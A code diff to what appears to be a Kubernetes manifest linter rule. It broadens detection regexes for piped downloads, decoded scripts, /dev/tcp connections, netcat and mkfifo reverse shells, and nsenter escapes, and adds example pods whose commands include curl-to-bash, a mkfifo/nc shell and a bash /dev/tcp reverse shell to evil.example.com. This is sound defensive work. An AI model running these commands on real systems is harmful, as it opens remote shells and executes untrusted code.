@@ -11,30 +11,43 @@ interface Suspicion {
   readonly severity?: Severity;
 }
 
-const SHELL = String.raw`(?:sudo\s+)?(?:\/(?:usr\/)?bin\/)?(?:env\s+)?(?:ba|da|z|k|a)?sh\b`;
+const SHELL = String.raw`(?:sudo\s+(?:-\S+\s+){0,5})?(?:\/(?:usr\/)?bin\/)?(?:env\s+)?(?:ba|da|z|k|a)?sh\b`;
+/** What an interpreter is piped into with neither a module nor a script of its own is a script. */
+const INTERPRETER = String.raw`(?:python[\d.]{0,5}|perl|ruby|node|php)(?:\s+-)?\s*(?=$|[\n;&|)"'])`;
 const START = String.raw`(?:^|[\n;|&({][ \t]{0,40})(?:exec\s+)?(?:\/(?:usr\/)?s?bin\/)?`;
 
+const RAW = 'opens a raw connection through /dev/tcp';
 const SUDO = 'runs sudo';
 
 const SUSPICIONS: readonly Suspicion[] = [
   {
     does: 'downloads a script and runs it',
     pattern: new RegExp(
-      String.raw`\b(?:curl|wget)\b[^\n;|]{0,1000}\|\s*${SHELL}|${SHELL}\s+(?:-c\s+)?["']?(?:<\(|\$\(|\`)\s*(?:curl|wget)\b`,
+      String.raw`\b(?:curl|wget)\b[^\n;|]{0,1000}\|\s*(?:${SHELL}|${INTERPRETER})|(?:${SHELL}\s+(?:-c\s+)?|\b(?:source|eval)\s+|(?:^|[\s;&|])\.\s+)["']?(?:<\(|\$\(|\`)\s*(?:curl|wget)\b`,
     ),
   },
   {
     does: 'decodes a hidden script and runs it',
-    pattern: new RegExp(String.raw`\bbase64\s+(?:-d|-D|--decode)\b[^\n;|]{0,1000}\|\s*${SHELL}`),
+    pattern: new RegExp(
+      String.raw`\bbase64\s+(?:-\w+\s+){0,3}(?:-\w{0,3}[dD]\w{0,3}|--decode)\b[^\n;|]{0,1000}\|\s*${SHELL}`,
+    ),
   },
-  { does: 'opens a raw connection through /dev/tcp', pattern: /\/dev\/(?:tcp|udp)\/[^\s/]+\/\S/ },
+  {
+    does: RAW,
+    pattern: new RegExp(
+      String.raw`${SHELL}\s+-[a-z]{0,4}i\b[^\n;]{0,200}\/dev\/(?:tcp|udp)\/|\/dev\/(?:tcp|udp)\/[^\n]{0,300}(?:0[<>]&1|\bsh\b[^\n;]{0,40}<\s*&\d|\bwhile\s+read\b)|\/dev\/(?:tcp|udp)\/(?!0|10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}\/|\b(?:env|printenv|tar|base64|cat\s+[^<\s|;&])[^\n|;&<]{0,200}>\s*\/dev\/(?:tcp|udp)\/`,
+    ),
+  },
+  // To see whether a port answers is how scripts wait for one another.
+  { does: RAW, pattern: /\/dev\/(?:tcp|udp)\/[^\s/]+\/\S/, severity: 'low' },
   {
     does: 'hands a shell to the network with nc',
-    pattern: /\b(?:nc|ncat|netcat)\s(?:[^\n;|&]{0,300}\s)?(?:-[a-z]{0,8}e|--exec|--sh-exec)\s+\S*(?:sh|cmd)\b/,
+    pattern:
+      /\b(?:nc|ncat|netcat)\s(?:[^\n;|&]{0,300}\s)?(?:-[a-z]{0,8}e|--exec|--sh-exec)\s+\S*(?:sh|cmd)\b|\bmkfifo\s[^\n]{0,300}\b(?:nc|ncat|netcat)\s/,
   },
   {
     does: 'enters the namespaces of the node with nsenter',
-    pattern: /\bnsenter\b[^\n;|&]{0,300}(?:-t\s*1\b|--target[= ]1\b|\/proc\/1\/ns)/,
+    pattern: /\bnsenter\b[^\n;|&]{0,300}(?:-[a-zA-Z]{0,8}t\s*1\b|--target[= ]1\b|\/proc\/1\/ns)/,
   },
   {
     does: 'changes into the file system of the node with chroot',
@@ -83,6 +96,22 @@ export const containerCommandSuspicious = defineRule({
     }
   },
   examples: [
+    {
+      name: 'other words for the same',
+      manifest: yaml`
+        apiVersion: v1
+        kind: Pod
+        metadata: {name: web}
+        spec:
+          containers:
+            - {name: a, image: "a:1", command: [sh, -c, "curl -s https://x.example.com | sudo -E bash"]} # <-- here
+            - {name: b, image: "a:1", command: [bash, -c, "source <(curl -s https://x.example.com)"]} # <-- here
+            - {name: c, image: "a:1", command: [sh, -c, "wget -qO- https://x.example.com | python3 -"]} # <-- here
+            - {name: d, image: "a:1", command: [sh, -c, "mkfifo /tmp/f; nc 192.0.2.1 44 < /tmp/f | sh > /tmp/f"]} # <-- here
+            - {name: e, image: "a:1", command: [bash, -c, "bash -i >& /dev/tcp/evil.example.com/44 0>&1"]} # <-- here
+            - {name: f, image: "a:1", command: [sh, -c, "curl -s http://x.example.com | python3 -m json.tool"]}
+      `,
+    },
     {
       name: 'scripts that are fetched, decoded and hidden',
       manifest: yaml`
@@ -219,7 +248,11 @@ function* commanded(container: Container): Iterable<Remark> {
   }
 }
 
-const scriptOf = (text: string): string => text.slice(0, MOST_TEXT).replace(/^[ \t]*#.*$/gm, '');
+const scriptOf = (text: string): string =>
+  text
+    .slice(0, MOST_TEXT)
+    .replace(/\\\r?\n/g, ' ')
+    .replace(/^[ \t]*#.*$/gm, '');
 
 function* synchronised(container: Container): Iterable<Remark> {
   const image = container.node.at('image').text() ?? '';
